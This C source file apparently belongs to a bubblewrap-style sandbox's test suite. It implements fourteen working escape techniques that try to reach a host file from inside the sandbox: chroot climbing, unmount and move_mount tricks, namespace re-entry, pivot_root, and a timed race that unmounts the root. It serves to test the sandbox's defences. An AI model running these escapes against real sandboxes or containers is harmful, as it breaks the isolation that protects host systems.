/*
 * escape [OPTION…] WAY FILE: find FILE, an absolute path in the tree around a root that covers that
 * tree.
 *
 * Where pivot_root is refused, rind bwrap leaves its new root mounted over the old one
 * (layout_root.c).  The ways try to take that off, to move it away, or to climb past it.  /tmp has
 * to be a mount of the sandbox's.
 *
 * What it prints and returns: attack.h; "done" when FILE was found, or "not found" when a way came
 * to its end without it.
 */
#include "attack.h"

#include <limits.h>
#include <signal.h>
#include <sys/mount.h>

static const char *wanted;
static int top; /* the root, opened before anything */

/* In every place that may be the tree around, from wherever this is now. */
static void look(void)
{
	static const char *const places[] = {"", "/..", ".", "..", "/host", "/../host", "/../..",
		"host", "../host", "../../../../host"};
	char path[PATH_MAX];

	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
		snprintf(path, sizeof(path), "%s%s", places[i], wanted);
		if (access(path, F_OK) == 0) {
			puts("done");
			exit(0);
		}
	}
}

static void climb(void)
{
	look();
	for (int i = 0; i < 64; i++) {
		(void)!chdir("..");
		look();
	}
	(void)!chroot(".");
	look();
}

/* Have another root than the sandbox's: what is one's root cannot be unmounted. */
static void leave_root(void)
{
	must("chdir", chdir("/tmp"));
	must("chroot", chroot("."));
}

static void go_back_to(int directory)
{
	must("fchdir", fchdir(directory));
}

/* --- ways ------------------------------------------------------------------------------------- */

static void way_climb(void)
{
	climb();
	leave_root();
	go_back_to(top);
	climb();
}

static void umount_root(int flags)
{
	leave_root();
	go_back_to(top);
	must("umount2", umount2(".", flags));
	climb();
}

static void way_umount(void)
{
	umount_root(0);
}

static void way_detach(void)
{
	umount_root(MNT_DETACH);
}

static void way_expire(void)
{
	leave_root();
	go_back_to(top);
	(void)umount2(".", MNT_EXPIRE);
	must("umount2", umount2(".", MNT_EXPIRE));
	climb();
}

/* Everything that is mounted on it first, so that it is not busy for that. */
static void way_umount_all(void)
{
	static const char *const places[] = {"dev/pts", "dev/shm", "dev/null", "dev/zero",
		"dev/full", "dev/random", "dev/urandom", "dev/tty", "dev/console", "dev", "proc",
		"usr", "etc"};
	leave_root();
	go_back_to(top);
	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++)
		(void)umount2(places[i], 0);
	must("umount2", umount2(".", 0));
	climb();
}

static void way_move(void)
{
	int target = open_directory("/tmp");
	leave_root();
	must("move_mount",
		syscall(SYS_move_mount, top, "", target, "", EMPTY_SOURCE | EMPTY_TARGET));
	go_back_to(target);
	climb();
}

static void way_move_beneath_itself(void)
{
	leave_root();
	must("move_mount",
		syscall(SYS_move_mount, top, "", top, "", EMPTY_SOURCE | EMPTY_TARGET | BENEATH));
	climb();
}

/* Another mount below it, to which it can then be moved, so that the other one is on top. */
static void put_beneath(int tree)
{
	must("beneath",
		syscall(SYS_move_mount, tree, "", top, "", EMPTY_SOURCE | EMPTY_TARGET | BENEATH));
}

static void move_root_into(int tree, const char *name)
{
	must("mkdirat", mkdirat(tree, name, 0755));
	must("move_mount", syscall(SYS_move_mount, top, "", tree, name, EMPTY_SOURCE));
}

static void way_beneath(void)
{
	int tree = new_tmpfs();
	leave_root();
	put_beneath(tree);
	move_root_into(tree, "root");
	go_back_to(tree);
	climb();
	must("fchdir", fchdir(tree));
	must("umount2", umount2(".", 0));
	climb();
}

/* Two, the upper of which goes into the lower, and so on. */
static void way_beneath_twice(void)
{
	int first = new_tmpfs(), second = new_tmpfs();
	leave_root();
	put_beneath(first);
	put_beneath(second);
	move_root_into(second, "root");
	must("mkdirat", mkdirat(first, "second", 0755));
	must("move_mount", syscall(SYS_move_mount, second, "", first, "second", EMPTY_SOURCE));
	go_back_to(first);
	climb();
	must("fchdir", fchdir(first));
	must("move_mount",
		syscall(SYS_move_mount, first, "", second, "", EMPTY_SOURCE | EMPTY_TARGET));
	climb();
}

/* From a copy that is in no namespace. */
static void way_from_a_copy(void)
{
	int tree = new_tmpfs();
	leave_root();
	put_beneath(tree);
	move_root_into(tree, "root");
	int copy = clone_tree(tree, "", AT_EMPTY_PATH);
	go_back_to(copy);
	must("chroot", chroot("."));
	must("umount2", umount2("/proc/self/fd/3/..", 0));
	climb();
}

static void way_join_again(void)
{
	int space = open_to_read("/proc/self/ns/mnt");
	leave_root();
	must("setns", setns(space, CLONE_NEWNS));
	climb();
}

static void way_pivot(void)
{
	must("chdir", chdir("/tmp"));
	must("pivot_root", pivot_here());
	must("umount2", umount2(".", MNT_DETACH));
	climb();
}

/* A copy of what is mounted where the root is, not of the root. */
static void way_copy_above(void)
{
	int copy = clone_tree(top, "..", AT_RECURSIVE);
	go_back_to(copy);
	climb();
}

/* --- where nobody is in the root while it is unmounted ---------------------------------------- */

/* More links than half of 40, and the kernel does not begin anew with a path (ELOOP). */
enum { TRIES = 3000, LINKS = 18, STACK = 65536 };

static const char FROM_MEMORY[] = "FROM_MEMORY", LONG_WAY[] = "/17";

/* The program's own file is in use as long as it runs. */
static void go_on_from_memory(void)
{
	extern char **environ;
	char *words[] = {"escape", "umount-unused", (char *)(uintptr_t)wanted, NULL};
	char buffer[STACK];
	ssize_t length;

	if (getenv(FROM_MEMORY))
		return;
	int from = (int)must("self", open("/proc/self/exe", O_RDONLY | O_CLOEXEC));
	int to = (int)must("memfd", memfd_create("escape", 0));
	while ((length = read(from, buffer, sizeof(buffer))) > 0)
		must("write", write(to, buffer, (size_t)length));
	int program = open_to_read(path_of(to));
	close(to);
	setenv(FROM_MEMORY, "1", 1);
	must("execveat", syscall(SYS_execveat, program, "", words, environ, AT_EMPTY_PATH));
}

/*
 * Links 0 to 17 in the root: each goes on the spot for as long as a path can be, and then to the
 * one before.
 */
static void make_long_way(void)
{
	char way[PATH_MAX - 8], name[16], before[16] = ".";

	for (int i = 0; i < LINKS; i++) {
		size_t length = sizeof(way) - sizeof(before);
		for (size_t j = 0; j < length; j += 2)
			memcpy(way + j, "./", 2);
		memcpy(way + length, before, sizeof(before));
		snprintf(name, sizeof(name), "%d", i);
		must("symlink", symlink(way, name));
		memcpy(before, name, sizeof(before));
	}
}

static int elsewhere;
static volatile int on_the_way;

/* A process with the same root and working directory: has both elsewhere, a while later. */
static int leave(void *delay)
{
	while (!on_the_way)
		continue;
	for (volatile intptr_t i = 0; i < (intptr_t)delay; i++)
		continue;
	return fchdir(elsewhere) < 0 || chroot(".") < 0;
}

/* Returns an errno. */
static int unmount_while_leaving(intptr_t delay)
{
	static char stack[STACK];

	on_the_way = 0;
	pid_t child = (pid_t)must("clone",
		clone(leave, stack + sizeof(stack), CLONE_VM | CLONE_FS | SIGCHLD, (void *)delay));
	on_the_way = 1;
	int error = umount2(LONG_WAY, 0) < 0 ? errno : 0;
	wait_for(child);
	return error;
}

/*
 * The root is in use by whoever has it, and that can be a tree which is mounted nowhere: the lookup
 * begins in the one, and before it ends nobody is there.  The way back is that to the namespace's
 * root, which begins at the top.
 */
static void way_umount_unused(void)
{
	static const char *const places[] = {"/dev/pts", "/dev/null", "/dev/zero", "/dev/full",
		"/dev/random", "/dev/urandom", "/dev/tty", "/dev", "/probes", "/proc", "/tmp"};

	close(top);
	go_on_from_memory();
	int space = open_to_read("/proc/self/ns/mnt");
	elsewhere = clone_tree(AT_FDCWD, "/tmp", 0);
	must("chdir", chdir("/"));
	make_long_way();
	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++)
		(void)umount2(places[i], 0);
	for (int i = 0; i < TRIES; i++) {
		errno = unmount_while_leaving(i * 20);
		/*
		 * Too early (one's own root turns read-only), too late, or begun anew when it was
		 * too late.
		 */
		if (errno && errno != EBUSY && errno != ENOENT && errno != ELOOP)
			give_up("umount2");
		must("setns", setns(space, CLONE_NEWNS));
		if (access(LONG_WAY, F_OK) == 0)
			continue;
		climb();
		return;
	}
}

static const struct way ways[] = {
	{"umount-unused", way_umount_unused},
	{"climb", way_climb},
	{"umount", way_umount},
	{"umount-all", way_umount_all},
	{"detach", way_detach},
	{"expire", way_expire},
	{"move", way_move},
	{"move-beneath-itself", way_move_beneath_itself},
	{"beneath", way_beneath},
	{"beneath-twice", way_beneath_twice},
	{"from-a-copy", way_from_a_copy},
	{"join-again", way_join_again},
	{"pivot", way_pivot},
	{"copy-above", way_copy_above},
	{NULL, NULL},
};

int main(int argc, char **argv)
{
	list_ways(ways, argc, argv);
	int taken = take_options(argv);
	if (argc != taken + 3)
		return 126;
	wanted = argv[taken + 2];
	/* Of the namespace that this is in now. */
	top = open_directory("/");
	go_way(ways, argv[taken + 1]);
	puts("not found");
	return 1;
}
